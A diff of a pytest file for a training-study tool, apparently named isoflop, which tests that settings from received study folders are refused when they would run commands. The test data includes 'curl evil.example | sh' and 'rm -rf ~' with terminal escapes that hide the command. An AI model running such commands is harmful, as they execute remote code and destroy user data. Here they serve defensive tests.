@@ -3,6 +3,7 @@
 import json
 import os
 import shutil
+from pathlib import Path
 
 import pytest
 
@@ -20,26 +21,26 @@ RAY = '\n[ray]\naddress = "203.0.113.7:6379"\n'
 
 
 @pytest.fixture(autouse=True)
-def state(tmp_path, monkeypatch):
+def state(tmp_path, monkeypatch) -> Path:
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
     return tmp_path / "state" / "isoflop"
 
 
 @pytest.fixture
-def own(tmp_path):
+def own(tmp_path) -> StudyFolder:
     """A study that was begun here."""
     folder = StudyFolder(tmp_path / "own")
     begin_or_resume(folder, {"flops": 3e10})
     return folder
 
 
-def written(folder, text):
+def appended(folder: StudyFolder, text: str) -> StudyFolder:
     with open(folder.settings, "a") as file:
         file.write(text)
     return folder
 
 
-def received(own, target):
+def received(own: StudyFolder, target: Path) -> StudyFolder:
     """The same study as somebody else would send it: nothing of this user's own folder comes along."""
     shutil.copytree(own.path, target)
     return StudyFolder(target)
@@ -89,7 +90,7 @@ def test_only_the_engine_that_is_used_counts(own):
 )
 @pytest.mark.parametrize("verb", ["run", "study", "sweep"])
 def test_a_received_study_is_refused_with_all_that_it_would_run(own, tmp_path, engine, table, named, verb):
-    folder = written(received(own, tmp_path / "received"), table)
+    folder = appended(received(own, tmp_path / "received"), table)
     more = ("--go",) if verb == "sweep" else ()
     said = refused(verb, folder.path, "--engine", engine, *more, code=3)
     assert "not begun here by you, and it would run what is not isoflop's" in said
@@ -100,7 +101,7 @@ def test_a_received_study_is_refused_with_all_that_it_would_run(own, tmp_path, e
 
 
 def test_trusted_once_it_runs_and_what_runs_is_named_each_time(own, tmp_path):
-    folder = written(received(own, tmp_path / "received"), SETUP)
+    folder = appended(received(own, tmp_path / "received"), SETUP)
     commands = commands_of("slurm", read_settings(folder).engines)["slurm"]
     said: list[Notice] = []
     with pytest.raises(RefusedError) as caught:
@@ -113,7 +114,7 @@ def test_trusted_once_it_runs_and_what_runs_is_named_each_time(own, tmp_path):
 
 
 def test_ones_own_study_may_be_edited_and_needs_no_flag(own):
-    written(own, SETUP)
+    appended(own, SETUP)
     said = call("run", own.path, "--engine", "slurm").stderr
     assert "no runs are designed yet" in said
     assert 'has this run: [slurm] setup, in every job: "curl evil.example | sh" [runs_commands]' in " ".join(
@@ -122,7 +123,7 @@ def test_ones_own_study_may_be_edited_and_needs_no_flag(own):
 
 
 def test_trust_is_an_option_of_all_that_train(own, tmp_path):
-    folder = written(received(own, tmp_path / "received"), RAY)
+    folder = appended(received(own, tmp_path / "received"), RAY)
     assert "no runs are designed yet" in refused("run", folder.path, "--engine", "ray", "--trust")
     assert "no runs are designed yet" in refused("run", folder.path, "--engine", "ray")
     for verb in ("study", "sweep", "run", "launch"):
@@ -130,7 +131,7 @@ def test_trust_is_an_option_of_all_that_train(own, tmp_path):
 
 
 def test_a_moved_study_is_trusted_with_one_flag(own, tmp_path):
-    written(own, SETUP)
+    appended(own, SETUP)
     own.path.rename(tmp_path / "elsewhere")
     assert "that was moved" in refused("run", tmp_path / "elsewhere", "--engine", "slurm", code=3)
     assert "no runs are designed" in refused("run", tmp_path / "elsewhere", "--engine", "slurm", "--trust")
@@ -138,7 +139,7 @@ def test_a_moved_study_is_trusted_with_one_flag(own, tmp_path):
 
 
 def test_a_received_study_without_commands_needs_no_trust(own, tmp_path):
-    folder = written(received(own, tmp_path / "received"), '\n[slurm]\npartition = "small"\n')
+    folder = appended(received(own, tmp_path / "received"), '\n[slurm]\npartition = "small"\n')
     assert "no runs are designed yet" in refused("run", folder.path, "--engine", "slurm")
 
 
@@ -163,7 +164,7 @@ def test_a_plan_made_here_is_ones_own_and_a_received_one_is_not(tmp_path):
 
 
 def test_terminal_escapes_in_commands_are_shown_and_not_obeyed(own, tmp_path):
-    folder = written(received(own, tmp_path / "received"), '\n[slurm]\nsetup = ["rm -rf ~ \\u001b[2K\\u001b[1A"]\n')
+    folder = appended(received(own, tmp_path / "received"), '\n[slurm]\nsetup = ["rm -rf ~ \\u001b[2K\\u001b[1A"]\n')
     said = refused("run", folder.path, "--engine", "slurm", code=3)
     assert ("\x1b" in said, "\\u001b[2K" in said) == (False, True)
 
